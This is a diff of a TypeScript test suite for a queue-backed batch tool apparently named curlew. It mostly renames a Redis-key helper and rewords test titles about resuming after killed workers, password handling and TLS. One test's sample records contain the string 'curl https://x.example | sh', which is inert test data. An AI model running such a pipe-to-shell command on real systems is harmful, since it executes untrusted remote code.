@@ -27,7 +27,7 @@ const read = (name: string): string => readFileSync(join(cwd, name), "utf8");
 
 beforeAll(async () => {
   redis = await RedisServer.start("--appendonly", "yes");
-  // because of the broken line, the status of every complete run is 2
+  // one line is not valid JSON, so every complete run exits with status 2
   const lines = `${corpus(100)}{broken\n${corpus(8)}`;
   cwd = folderWith({
     "in.jsonl": lines,
@@ -37,11 +37,11 @@ beforeAll(async () => {
   await curlew(["batch", "-q", "other.csv", "-o", "other.jsonl"], { cwd });
   whole = read("whole.jsonl");
 });
-/** The keys of an earlier run that Redis restored after it was killed; they expire. */
+/** The keys that existed before the test. Redis may have restored keys of an earlier run after it was killed; they expire. */
 let earlier: readonly string[] = [];
 beforeEach(async () => {
   earlier = [];
-  earlier = await left();
+  earlier = await remainingKeys();
 });
 afterEach(async () => {
   for (const { child } of workers) child.kill("SIGKILL");
@@ -50,7 +50,7 @@ afterEach(async () => {
 });
 afterAll(() => redis.remove());
 
-/** Returns the arguments of a run whose partitions are joined to `NAME.jsonl`. */
+/** Returns the arguments of a run on a queue whose partitions are in the folder `name` and are merged to `name.jsonl`. */
 const queued = (name: string, url = redis.url, input = "in.jsonl"): string[] => {
   const out = ["--queue", url, "--out-dir", name, "--partitions", "12", "-o", `${name}.jsonl`];
   return ["batch", "-q", input, ...out];
@@ -70,15 +70,15 @@ function startOn(url: string, ...args: string[]): Running {
   return worker;
 }
 
-/** Returns the remaining keys of partitions and claims of this test in Redis. */
-async function left(): Promise<string[]> {
+/** Returns the keys of partitions and claims in Redis that this test has created. */
+async function remainingKeys(): Promise<string[]> {
   const client = new Redis(redis.url);
   const keys = await client.keys("{curlew}:*");
   client.disconnect();
   return keys.filter((key) => /:output:|:\w{16}-\w{16}-/.test(key) && !earlier.includes(key));
 }
 
-/** Returns the messages of a run without those that depend on the speed of workers. */
+/** Returns the messages of a run without messages that depend on the speed of its workers. */
 function withoutTimingMessages(stderr: string): string {
   return stderr.replace(/.*is unreachable.*\n|.*no worker is running.*\n|.*it is split.*\n/g, "");
 }
@@ -90,7 +90,7 @@ function textOf({ child }: Running): () => string {
 }
 
 describe("a run on a queue", () => {
-  it("has the bytes of one process, and leaves nothing on the queue", async () => {
+  it("has the same output as a single process, and leaves no keys in Redis", async () => {
     startWorker();
     startWorker();
     const { status, stderr } = await curlew(queued("plain"), { cwd });
@@ -98,10 +98,10 @@ describe("a run on a queue", () => {
     expect(read("plain.jsonl") === whole).toBe(true);
     expect(parts("plain")).toBe(12);
     expect(JSON.parse(read("plain/summary.json")).total.broken).toBe(1);
-    expect(await left()).toEqual([]);
+    expect(await remainingKeys()).toEqual([]);
   });
 
-  it("continues after killed workers and a killed Redis, at the same time as another run", async () => {
+  it("is completed even if workers and Redis are killed and another run uses the same queue", async () => {
     for (let i = 0; i < 2; i++) startWorker("--rate", "4");
     const one = start(queued("killed"), { cwd });
     const two = start(queued("beside", redis.url, "other.csv"), { cwd });
@@ -134,7 +134,7 @@ describe("a run on a queue", () => {
     expect(read("beside.jsonl") === read("other.jsonl")).toBe(true);
   });
 
-  it("can be resumed after SIGKILL, with the remaining tasks on the queue", async () => {
+  it("can be resumed after SIGKILL, and then uses the tasks that are still on the queue", async () => {
     const worker = startWorker("--rate", "2");
     const { child, ended } = start(queued("resumed"), { cwd });
     await expect.poll(() => parts("resumed"), { timeout: 60_000 }).toBeGreaterThan(1);
@@ -155,7 +155,7 @@ describe("a run on a queue", () => {
       ),
     ]);
     expect(read("resumed.jsonl") === whole).toBe(true);
-    expect(await left()).toEqual([]);
+    expect(await remainingKeys()).toEqual([]);
     worker.child.kill("SIGTERM");
     expect((await worker.ended).stderr).toMatch(/done: partition part-00011/);
   });
@@ -174,15 +174,17 @@ describe("a run on a queue", () => {
       `curlew: stopped by ${signal}; finished partitions are kept: run the same command to continue\n`,
     ]);
     expect(parts(signal)).toBeLessThan(12);
-    await expect.poll(left, { timeout: 20_000 }).toEqual([]);
+    await expect.poll(remainingKeys, { timeout: 20_000 }).toEqual([]);
     startWorker();
     expect((await curlew(queued(signal), { cwd })).status).toBe(2);
     expect(read(`${signal}.jsonl`) === whole).toBe(true);
   });
 
-  it("is rejected if another run has the same output, or with other inputs", async () => {
+  it("is rejected if another run writes the same output folder, with the same or other inputs", async () => {
     const first = start(queued("shared"), { cwd });
-    await expect.poll(left, { timeout: 20_000 }).toContainEqual(expect.stringMatching(/:output:/));
+    await expect
+      .poll(remainingKeys, { timeout: 20_000 })
+      .toContainEqual(expect.stringMatching(/:output:/));
     for (const args of [[], ["--resume"]]) {
       const { status, stderr } = await curlew([...queued("shared"), ...args], { cwd });
       expect([status, stderr]).toEqual([
@@ -199,7 +201,7 @@ describe("a run on a queue", () => {
     expect(read("shared.jsonl") === whole).toBe(true);
   });
 
-  it("waits for workers with the same rules, and reports that others refuse", async () => {
+  it("waits for a worker with the same rules, and reports workers with other rules", async () => {
     const log = textOf(startWorker("--profile", "contract"));
     const run = start(queued("refused"), { cwd });
     const stderr = textOf(run);
@@ -218,7 +220,7 @@ describe("a run on a queue", () => {
     expect(read("refused.jsonl") === whole).toBe(true);
   });
 
-  it("completes the partitions that a worker had begun when it was asked to end", async () => {
+  it("has the partitions that a worker completes after SIGTERM", async () => {
     const worker = startWorker("--rate", "2");
     const { ended } = start(queued("ended"), { cwd });
     await expect.poll(() => parts("ended"), { timeout: 60_000 }).toBeGreaterThan(0);
@@ -229,7 +231,7 @@ describe("a run on a queue", () => {
     expect(read("ended.jsonl") === whole).toBe(true);
   });
 
-  it("is completed by other workers if one looks in the wrong folder, which reports it", async () => {
+  it("is completed by other workers if one of them has another folder, which is reported", async () => {
     const log = textOf(startScripted(join(cwd, "elsewhere")));
     const run = start(queued("place"), { cwd });
     const stderr = textOf(run);
@@ -241,7 +243,7 @@ describe("a run on a queue", () => {
     expect(read("place.jsonl") === whole).toBe(true);
   });
 
-  it("identifies a record that ends its workers, and predicts all others", async () => {
+  it("finds and skips a record that kills its workers, and predicts all others", async () => {
     const texts = Array.from({ length: 90 }, (_, i) =>
       JSON.stringify({ id: i, text: i === 61 ? "ENDING" : `${i} \`curl https://x.example | sh\`` }),
     );
@@ -275,7 +277,7 @@ describe("a run on a queue", () => {
   });
 });
 
-/** Starts a scripted worker. @param folder a wrong folder, in which the worker looks for partitions */
+/** Starts a scripted worker. `folder` is a wrong folder, in which the worker looks for the partitions. */
 function startScripted(folder?: string): Running {
   const script = bundled(resolve("test/queue/scripted-worker.ts"));
   const args = [script, redis.url, ...(folder === undefined ? [] : [folder])];
@@ -300,7 +302,7 @@ describe("an unreachable queue", () => {
     ]);
   });
 
-  it("during a run ends it, and finished partitions are kept", async () => {
+  it("ends a run, whose finished partitions are kept", async () => {
     const own = await RedisServer.start();
     startOn(own.url, "--rate", "2");
     const { ended } = start([...queued("gone", own.url), "--queue-timeout", "2"], { cwd });
@@ -319,8 +321,8 @@ describe("an unreachable queue", () => {
   });
 });
 
-describe("options of a queue", () => {
-  it("include a password in the environment, which is in no message", async () => {
+describe("the options for a queue", () => {
+  it("include a password in the environment, which no message contains", async () => {
     const locked = await RedisServer.start("--requirepass", "s3cret-word");
     try {
       const args = queued("locked", locked.url, "other.csv");
@@ -350,7 +352,7 @@ describe("options of a queue", () => {
     }
   });
 
-  it("include TLS, with a custom certificate authority in the environment", async () => {
+  it("include TLS and a custom certificate authority in the environment", async () => {
     const secure = await RedisServer.startSecure("--requirepass", "s3cret-word");
     try {
       const url = `rediss://localhost:${secure.port}`;
@@ -396,13 +398,13 @@ describe("options of a queue", () => {
       ["--queue", "redis://127.0.0.1", "--out-dir", "wrong", "-o", "x.csv"],
       /^curlew: --queue writes partitions as JSON Lines or Parquet/,
     ],
-  ])("%j are rejected", async (args, message) => {
+  ])("are rejected if they are %j", async (args, message) => {
     const { status, stderr } = await curlew(["batch", "in.jsonl", ...args], { cwd });
     expect(stderr).toMatch(message);
     expect(status).toBe(2);
   });
 
-  it("include a folder for partitions, which is reported if it cannot be written", async () => {
+  it("include a folder for partitions, which must be writable", async () => {
     writeFileSync(join(cwd, "file"), "");
     const { status, stderr } = await curlew(
       ["batch", "-q", "in.jsonl", "--queue", redis.url, "--out-dir", "file/x"],
